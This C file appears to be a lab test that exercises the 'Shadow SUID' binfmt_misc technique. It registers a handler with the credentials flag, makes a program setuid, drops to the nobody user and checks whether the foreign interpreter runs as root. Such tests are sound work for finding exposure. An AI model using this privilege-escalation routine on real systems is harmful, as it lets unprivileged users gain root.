// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. The same with flag C (and so O): the foreign interpreter takes the credentials of an
 * approved program, here those of a setuid one, for somebody without any privilege.
 * Source: Dor Dankner, "Shadow SUID" (2022); binfmt-misc.rst. Control: the foreign program speaks as root.
 */
#define _GNU_SOURCE
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "handler.h"
#include "mounts.h"

enum { SPOKE = 200 };	/* no errno is that */

/* Runs the program as nobody: SPOKE if somebody foreign spoke as root, else why not. */
static int run_as_nobody(void)
{
	const struct start start = { .path = "/tmp/lab-credentials/open/program.credentials",
		.argv = { "credentials" } };
	int status;
	pid_t pid = fork();

	if (pid < 0)
		broken("fork");
	if (pid == 0) {
		/* By another way, because nobody may be kept out of the directories that lead to the lab. */
		root_with_approved("/tmp/lab-credentials");
		if (chmod(start.path, 04755) || setresuid(65534, 65534, 65534))
			_exit(errno);
		_exit(runs(&start, FOREIGN_TEXT " as root") ? SPOKE : errno);
	}
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

void attack(void)
{
	int error;

	drop("foreign/payload-bare", "/tmp/lab-handler-credentials");
	handler_register("credentials", "/tmp/lab-handler-credentials", "C");
	error = run_as_nobody();
	handler_remove("credentials");
	if (error == SPOKE)
		effect();
	no_effect(error);
}
